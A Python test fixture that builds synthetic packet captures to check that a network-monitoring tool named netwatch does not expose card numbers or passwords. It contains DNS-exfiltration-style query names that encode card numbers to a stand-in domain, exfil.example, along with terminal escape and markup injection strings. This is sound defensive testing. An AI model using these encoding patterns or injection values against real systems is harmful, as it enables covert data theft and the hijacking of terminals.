"""A hostile capture for the leak test (issue 15): a distinct card number, and where a protocol
carries one a distinct password, in every channel netwatch reads, plus control characters and rich
markup in names.

Channels: HTTP body, URL, header, Cookie, User-Agent, Host; TLS SNI and certificate CN; DNS query
names (ASCII, hex lower and upper, base32, base32hex, base64, dot-split, dash-split, hex split over
labels) to a resolver the store policy does not list; DNS answer names (a CNAME and an A owner) that
the next connections use; FTP USER with a track-2 tail, SMTP AUTH PLAIN and LOGIN, HTTP Basic,
Telnet; ISO 8583 DE2/DE35; a track-1 and a track-2 with discretionary data; UTF-16 LE and BE.
tests/test_leaks_channels.py runs it through every command and output and greps for each number and
password in every encoding. Every payload is built byte by byte here, with fixed timestamps and a
fixed Ed25519 key (deterministic signatures): reruns are byte-identical.
"""

from __future__ import annotations

import base64
import datetime as dt

from scapy.layers.dns import DNS, DNSQR
from scenario_lib import Clock, TcpConversation, udp
from scenarios_destinations import dns_lookup
from scenarios_protect import _hs, certificate, client_hello, record, server_hello

POS, RESOLVER = "10.20.1.15", "10.20.0.53"
SHOP_WEB, CDN, CERT_HOST, MAIL, FTP, SWITCH, ACQ = (
    "198.51.100.80", "198.51.100.81", "198.51.100.82", "10.20.9.25", "10.20.9.30", "10.20.0.2", "203.0.113.10")


def _luhn(body: str) -> str:
    """`body` plus the check digit that makes it Luhn-valid."""
    total = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch) * (2 if i % 2 == 0 else 1)
        total += d - 9 if d > 9 else d
    return body + str((10 - total % 10) % 10)


CHANNELS = [
    "http-body", "http-url", "http-header", "cookie", "user-agent", "host", "sni", "cert-cn",
    "dns-ascii", "dns-hex", "dns-hex-upper", "dns-base32", "dns-base32hex", "dns-base64", "dns-dots",
    "dns-dashes", "dns-hex-split", "dns-answer-cname", "dns-answer-a", "ftp-user", "smtp-plain",
    "smtp-login", "http-basic", "telnet", "iso8583-de2", "iso8583-de35", "track1", "track2-tail",
    "utf16-le", "utf16-be", "sni-dashes", "host-grouped",
]
# One Visa number per channel (4 + channel number + fixed digits + Luhn): a leak names its channel.
CARD = {ch: _luhn(f"4{i:03d}5551234{i:04d}") for i, ch in enumerate(CHANNELS, 1)}
CARD_NUMBERS = list(CARD.values())
PASSWORD = {ch: f"Pw{i:02d}-{ch}-Xq7" for i, ch in enumerate(
    ["http-body", "http-url", "cookie", "ftp", "smtp-plain", "smtp-login", "http-basic", "telnet"], 1)}
PASSWORDS = list(PASSWORD.values())
TRACK_TAILS = ["2712101123456789", "2712101000000123000000"]  # expiry, service code, discretionary data
HOSTILE = "\x1b[31m\x07[bold red]boom[/bold red]\x1b]8;;http://x.example\x07"  # ANSI, BEL, OSC 8, rich markup


def _b32(s: str, hexalpha: bool = False) -> str:
    raw = (base64.b32hexencode if hexalpha else base64.b32encode)(s.encode())
    return raw.decode().rstrip("=").lower()


def _http(conv: TcpConversation, head: str, body: bytes = b"") -> None:
    req = head.replace("\n", "\r\n").encode("latin-1") + b"\r\n"
    if body:
        req += f"Content-Length: {len(body)}\r\n".encode()
    conv.send(0, req + b"\r\n" + body)
    conv.send(1, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    conv.close()


def http_flows(clk: Clock) -> list:
    """Card numbers in body, URL, headers, cookie, User-Agent, Host; passwords in body, URL, cookie, Basic."""
    c = CARD
    out = []
    basic = base64.b64encode(f"{c['http-basic']}:{PASSWORD['http-basic']}".encode()).decode()
    cookie_pan = base64.b64encode(c["cookie"].encode()).decode()
    grouped = " ".join(c["host-grouped"][i:i + 4] for i in range(0, 16, 4))
    requests = [
        ("POST /pay HTTP/1.1\nHost: shop.example\nContent-Type: application/x-www-form-urlencoded",
         f"pan={c['http-body']}&password={PASSWORD['http-body']}&t2=%3B{c['track2-tail']}%3D{TRACK_TAILS[0]}%3F"
         .encode()),
        (f"GET /pay?pan={c['http-url']}&password={PASSWORD['http-url']} HTTP/1.1\nHost: shop.example", b""),
        (f"GET /a HTTP/1.1\nHost: shop.example\nX-Card: {c['http-header']}\n"
         f"Cookie: card={cookie_pan}; pw={PASSWORD['cookie']}\n"
         f"User-Agent: PosClient/2.1 ({c['user-agent'][:4]}-{c['user-agent'][4:8]}-{c['user-agent'][8:12]}-"
         f"{c['user-agent'][12:]})\nAuthorization: Basic {basic}", b""),
        (f"GET / HTTP/1.1\nHost: {c['host']}.shop.example", b""),
        (f"GET / HTTP/1.1\nHost: {grouped.replace(' ', '-')}.shop.example", b""),
        ("GET / HTTP/1.1\nHost: a[bold]b[/bold].shop.example", b""),
        ("POST /t HTTP/1.1\nHost: shop.example\nContent-Type: text/plain",
         f"%B{c['track1']}^DOE/JOHN^{TRACK_TAILS[1]}?;\n".encode()
         + c["utf16-le"].encode("utf-16-le") + b"\n" + c["utf16-be"].encode("utf-16-be")),
    ]
    for i, (head, body) in enumerate(requests):
        conv = TcpConversation(POS, SHOP_WEB, 51000 + i, 80, clk)
        _http(conv, head, body)
        out += conv.packets
    return out


def _cert(cn: str) -> bytes:
    """A self-signed, expired Ed25519 certificate (deterministic signature) with this CN."""
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding
    from cryptography.x509.oid import NameOID

    key = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(4242).not_valid_before(dt.datetime(2020, 1, 1, tzinfo=dt.UTC))
            .not_valid_after(dt.datetime(2021, 1, 1, tzinfo=dt.UTC)).sign(key, None))
    return cert.public_bytes(Encoding.DER)


def tls_flows(clk: Clock) -> list:
    """Card numbers in SNI (plain, dash-split) and a certificate CN; control characters and markup in SNI and CN."""
    out = []
    c = CARD
    dashed = "-".join(c["sni-dashes"][i:i + 4] for i in range(0, 16, 4))
    snis = [f"{c['sni']}.gw.example", f"{dashed}.gw.example", f"x{HOSTILE}.gw.example"]
    for i, sni in enumerate(snis):
        conv = TcpConversation(POS, ACQ, 52000 + i, 443, clk)
        conv.send(0, client_hello(sni, [0xC02F]))
        conv.send(1, record(22, server_hello(0xC02F)))
        conv.close()
        out += conv.packets
    conv = TcpConversation(POS, CERT_HOST, 52010, 443, clk)
    conv.send(0, client_hello("cert.gw.example", [0xC02F]))
    der = _cert(f"{c['cert-cn']}.\x1b[31m\x07[bold]x[/bold].example")  # a CN is at most 64 characters
    conv.send(1, record(22, server_hello(0xC02F) + certificate(der) + _hs(14, b"")))
    conv.close()
    return out + conv.packets


def dns_flows(clk: Clock) -> list:
    """Query names in every encoding to an outside resolver; answered names the next connections use."""
    c = CARD
    hexsplit = c["dns-hex-split"].encode().hex()
    qnames = [
        f"{c['dns-ascii']}.q.exfil.example",
        f"{c['dns-hex'].encode().hex()}.q.exfil.example",
        f"{c['dns-hex-upper'].encode().hex().upper()}.q.exfil.example",
        f"{_b32(c['dns-base32'])}.q.exfil.example",
        f"{_b32(c['dns-base32hex'], True)}.q.exfil.example",
        f"{base64.b64encode(c['dns-base64'].encode()).decode().rstrip('=')}.q.exfil.example",
        ".".join(c["dns-dots"][i:i + 4] for i in range(0, 16, 4)) + ".q.exfil.example",
        "-".join(c["dns-dashes"][i:i + 3] for i in range(0, 16, 3)) + ".q.exfil.example",
        f"{hexsplit[:12]}.{hexsplit[12:24]}.{hexsplit[24:]}.q.exfil.example",
        f"ctl{HOSTILE}.q.exfil.example",
    ]
    out = []
    for i, name in enumerate(qnames):  # one outside resolver each: every name is the first its finding shows
        outside = f"185.228.168.{10 + i}"
        q = DNS(id=0x6100 + i, rd=1, qd=DNSQR(qname=name.encode("latin-1")))
        r = DNS(id=0x6100 + i, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name.encode("latin-1")))
        out.append(udp(POS, outside, 54000 + i, 53, bytes(q), clk))
        out.append(udp(outside, POS, 53, 54000 + i, bytes(r), clk))
    cname = f"{c['dns-answer-cname']}.cdn.example"
    out += dns_lookup(POS, RESOLVER, 54100, 0x6200, "static.shop.example",
                      [("static.shop.example", "CNAME", cname), (cname, "A", CDN)], clk)
    owner = f"{c['dns-answer-a']}.cdn2.example"
    out += dns_lookup(POS, RESOLVER, 54101, 0x6201, owner, [(owner, "A", CERT_HOST)], clk)
    for i, dst in enumerate((CDN, CERT_HOST)):  # connections after the answers: the names become theirs
        conv = TcpConversation(POS, dst, 54200 + i, 8080, clk)
        _http(conv, "GET /img HTTP/1.0", b"")
        out += conv.packets
    return out


def login_flows(clk: Clock) -> list:
    """FTP USER with a track-2 tail, SMTP AUTH PLAIN and LOGIN, Telnet login: users carry card data."""
    c, p = CARD, PASSWORD
    ftp = TcpConversation(POS, FTP, 55000, 21, clk)
    ftp.send(1, b"220 ready\r\n")
    ftp.send(0, f"USER ;{c['ftp-user']}={TRACK_TAILS[0]}?\r\n".encode())
    ftp.send(1, b"331 password\r\n")
    ftp.send(0, f"PASS {p['ftp']}\r\n".encode())
    ftp.send(1, b"230 ok\r\n")
    ftp.close()
    smtp = TcpConversation(POS, MAIL, 55001, 25, clk)
    smtp.send(1, b"220 mail ESMTP\r\n")
    smtp.send(0, b"EHLO pos\r\n")
    smtp.send(1, b"250-mail\r\n250 AUTH PLAIN LOGIN\r\n")
    plain = base64.b64encode(f"\0{c['smtp-plain']}@shop.example\0{p['smtp-plain']}".encode())
    smtp.send(0, b"AUTH PLAIN " + plain + b"\r\n")
    smtp.send(1, b"235 ok\r\n")
    smtp.close()
    login = TcpConversation(POS, MAIL, 55002, 25, clk)
    login.send(1, b"220 mail ESMTP\r\n")
    login.send(0, b"EHLO pos\r\n")
    login.send(1, b"250-mail\r\n250 AUTH LOGIN\r\n")
    login.send(0, b"AUTH LOGIN\r\n")
    login.send(1, b"334 VXNlcm5hbWU6\r\n")
    login.send(0, base64.b64encode(f"{c['smtp-login']}@shop.example".encode()) + b"\r\n")
    login.send(1, b"334 UGFzc3dvcmQ6\r\n")
    login.send(0, base64.b64encode(p["smtp-login"].encode()) + b"\r\n")
    login.send(1, b"235 ok\r\n")
    login.close()
    tel = TcpConversation(POS, SWITCH, 55003, 23, clk)
    tel.send(1, b"\xff\xfd\x18\xff\xfb\x01")
    tel.send(0, b"\xff\xfc\x18\xff\xfd\x01")
    tel.send(1, b"\r\nswitch login: ")
    tel.send(0, c["telnet"].encode() + b"\r")
    tel.send(1, b"\r\nPassword: ")
    tel.send(0, p["telnet"].encode() + b"\r")
    tel.send(1, b"\r\nswitch> ")
    tel.close()
    return ftp.packets + smtp.packets + login.packets + tel.packets


def iso8583_flow(clk: Clock) -> list:
    """ASCII ISO 8583 authorisation: DE2 PAN and DE35 track 2 (discretionary data included)."""
    pan, t2 = CARD["iso8583-de2"], CARD["iso8583-de35"] + "=" + TRACK_TAILS[0]
    fields = {2: b"%02d" % len(pan) + pan.encode(), 3: b"000000", 4: b"000000001999", 11: b"000321",
              35: b"%02d" % len(t2) + t2.encode(), 41: b"TERM0015"}
    bits = 0
    for f in fields:
        bits |= 1 << (64 - f)
    msg = b"0100" + bits.to_bytes(8, "big").hex().upper().encode() + b"".join(fields[f] for f in sorted(fields))
    conv = TcpConversation(POS, ACQ, 55100, 8583, clk)
    conv.send(0, b"%04d" % len(msg) + msg)
    conv.close()
    return conv.packets


def leaks_every_channel() -> list:
    clk = Clock()
    pkts = http_flows(clk) + tls_flows(clk) + dns_flows(clk) + login_flows(clk) + iso8583_flow(clk)
    return sorted(pkts, key=lambda p: p.time)


assert len(set(CARD_NUMBERS)) == len(CHANNELS)  # distinct: a leak names its channel
SCENARIOS = {"leaks_every_channel": leaks_every_channel}
